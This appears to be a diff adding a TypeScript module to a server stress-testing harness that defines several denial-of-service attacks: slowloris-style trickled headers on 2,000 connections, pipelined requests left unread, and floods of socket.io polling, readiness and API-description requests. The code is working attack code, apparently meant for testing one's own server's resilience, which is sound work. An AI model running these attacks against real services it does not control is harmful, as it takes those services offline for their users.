@@ -1,0 +1,76 @@
+import { createConnection } from 'node:net'
+import { type Attack, keepBusy, pause, type Target } from '../lib/attack.ts'
+
+/** A bare connection that writes `text` at once and again every `everyMs`, and reads nothing where `read` is false. Resolves when it ends. */
+function hang(
+  target: Target,
+  signal: AbortSignal,
+  how: { text: string; again?: string; everyMs?: number; read: boolean },
+): Promise<void> {
+  const { hostname, port } = new URL(target.origin)
+  return new Promise((resolve) => {
+    const socket = createConnection({ host: hostname, port: Number(port), localAddress: target.from })
+    target.count('opened')
+    if (!how.read) socket.pause()
+    else
+      socket.once('data', (data) => {
+        const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1]
+        if (status) target.count(`HTTP ${status}`)
+      })
+    socket.write(how.text)
+    const again = how.again === undefined ? undefined : setInterval(() => socket.write(how.again ?? ''), how.everyMs)
+    const stop = () => socket.destroy()
+    signal.addEventListener('abort', stop, { once: true })
+    socket.on('error', () => undefined)
+    socket.on('close', () => {
+      clearInterval(again)
+      signal.removeEventListener('abort', stop)
+      if (!signal.aborted) target.count('cut off')
+      void pause(100, signal).then(resolve)
+    })
+  })
+}
+
+export const halfHeaders: Attack = {
+  name: 'half-headers',
+  what: '2,000 connections whose headers come a few bytes every 3 s',
+  arm: async (target) => (signal) =>
+    keepBusy(2000, signal, () =>
+      hang(target, signal, { text: 'GET / HTTP/1.1\r\nhost: a\r\nx-a: ', again: 'b', everyMs: 3000, read: true }),
+    ),
+}
+
+/** Requests of one connection, sent without waiting for an answer. */
+const pipelined = (path: string, count: number) => `GET ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`.repeat(count)
+
+const unread = (name: string, what: string, path: string): Attack => ({
+  name,
+  what,
+  arm: async (target) => (signal) =>
+    keepBusy(300, signal, () => hang(target, signal, { text: pipelined(path, 50), read: false })),
+})
+
+export const unreadPages = unread(
+  'unread-pages',
+  '300 connections that ask 50 times for the home page and read nothing',
+  '/',
+)
+export const unreadCatalogue = unread(
+  'unread-catalogue',
+  'the same with the whole catalogue',
+  '/api/course/getpublishedcoures',
+)
+
+export const pollingHandshakes: Attack = {
+  name: 'polling',
+  what: '50 first requests of sockets over HTTP at a time, none of which goes on',
+  arm: async (target) => (signal) =>
+    keepBusy(50, signal, () => target.send({ path: '/socket.io/?EIO=4&transport=polling', signal })),
+}
+
+export const readiness: Attack = {
+  name: 'readiness',
+  what: '50 questions at a time whether the server is ready, and for the description of the API',
+  arm: async (target) => (signal) =>
+    keepBusy(50, signal, (lane) => target.send({ path: lane % 2 === 0 ? '/readyz' : '/api/openapi.json', signal })),
+}
